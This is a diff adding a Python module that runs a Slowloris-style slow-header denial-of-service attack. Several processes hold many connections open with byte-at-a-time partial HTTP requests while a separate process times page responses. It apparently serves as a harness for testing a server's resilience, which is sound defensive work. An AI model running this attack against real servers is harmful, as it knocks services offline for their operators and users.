@@ -1,0 +1,149 @@
+"""Slow connections and a reader beside them, each in a process of its own.
+
+    python slow_attack.py hold HOST PORT COUNT     until standard input ends
+    python slow_attack.py read HOST PORT COUNT     prints JSON: status and seconds of each
+
+A reader that shares its process with the attackers measures them and not the server.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import selectors
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+
+EVERY_SECONDS = 3.0
+"""How often a slow connection sends a byte."""
+PAUSE_SECONDS = 0.02
+"""How long a reader waits between two answers."""
+
+Address = tuple[str, int]
+
+
+@contextmanager
+def attack(address: Address, count: int, processes: int = 2) -> Iterator[None]:
+    """Hold ``count`` connections open in processes of the lowest priority while the body runs.
+
+    The body begins when each has been opened once.
+    """
+    share = count // processes
+    running = [_start("hold", address, share) for _ in range(processes)]
+    try:
+        for process in running:
+            assert process.stdout is not None
+            process.stdout.readline()
+        yield
+    finally:
+        for process in running:
+            assert process.stdin is not None
+            process.stdin.close()
+        for process in running:
+            process.wait(30)
+
+
+def read_apart(address: Address, count: int) -> list[tuple[int, float]]:
+    """Ask for the page one time after another in another process; the status and seconds of each."""
+    process = _start("read", address, count)
+    said, _ = process.communicate(timeout=600)
+    return [(status, seconds) for status, seconds in json.loads(said)]
+
+
+def _start(role: str, address: Address, count: int) -> subprocess.Popen[bytes]:
+    command = [sys.executable, __file__, role, address[0], str(address[1]), str(count)]
+    return subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+
+
+class Holder:
+    """So many connections, each of which sends half a request a byte at a time."""
+
+    def __init__(self, address: Address, count: int) -> None:
+        self.address = address
+        self.selector = selectors.DefaultSelector()
+        self.slots: list[socket.socket | None] = [None] * count
+        self.begun = bytearray(count)  # 1 once the first bytes have been sent
+
+    def run(self) -> None:
+        """Hold them until standard input ends; ended ones are opened again at once."""
+        self.selector.register(sys.stdin, selectors.EVENT_READ, None)
+        begun = time.monotonic()
+        opened = sent = 0
+        while True:
+            for key, _ in self.selector.select(0.01):
+                if key.data is None:
+                    return
+                self._look(key.data)
+            elapsed = time.monotonic() - begun
+            # Opened over three seconds, then a byte for each every three.
+            while opened < len(self.slots) and opened <= elapsed / 3 * len(self.slots):
+                self._open(opened)
+                opened += 1
+                if opened == len(self.slots):
+                    print("open", flush=True)
+            while sent < elapsed / EVERY_SECONDS * len(self.slots):
+                self._send(sent % len(self.slots))
+                sent += 1
+
+    def _open(self, slot: int) -> None:
+        one = socket.socket()
+        one.setblocking(False)
+        one.connect_ex(self.address)
+        self.slots[slot], self.begun[slot] = one, 0
+        self.selector.register(one, selectors.EVENT_READ, slot)
+
+    def _send(self, slot: int) -> None:
+        one = self.slots[slot]
+        if one is not None:
+            with suppress(OSError):
+                one.send(b"a" if self.begun[slot] else b"GET / HTTP/1.1\r\nX-")
+                self.begun[slot] = 1
+
+    def _look(self, slot: int) -> None:
+        """Take what the server says; a connection that it has ended is opened again."""
+        one = self.slots[slot]
+        assert one is not None
+        try:
+            if one.recv(1000):
+                return
+        except BlockingIOError:
+            return
+        except OSError:
+            pass
+        self.selector.unregister(one)
+        one.close()
+        self._open(slot)
+
+
+def read(address: Address, count: int) -> list[tuple[int, float]]:
+    """Ask for the page over a new connection each time; status 0 when no answer came."""
+    found = []
+    for _ in range(count):
+        time.sleep(PAUSE_SECONDS)
+        start = time.perf_counter()
+        answer = b""
+        with suppress(OSError), socket.create_connection(address, timeout=60) as one:
+            one.sendall(b"GET / HTTP/1.1\r\nHost: here\r\nConnection: close\r\n\r\n")
+            while piece := one.recv(1 << 18):
+                answer += piece
+        seconds = time.perf_counter() - start
+        found.append((int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0, seconds))
+    return found
+
+
+def main() -> None:
+    """Play one role until it ends."""
+    role, host, port, count = sys.argv[1:]
+    if role == "hold":
+        os.nice(19)
+        Holder((host, int(port)), int(count)).run()
+    else:
+        print(json.dumps(read((host, int(port)), int(count))))
+
+
+if __name__ == "__main__":
+    main()
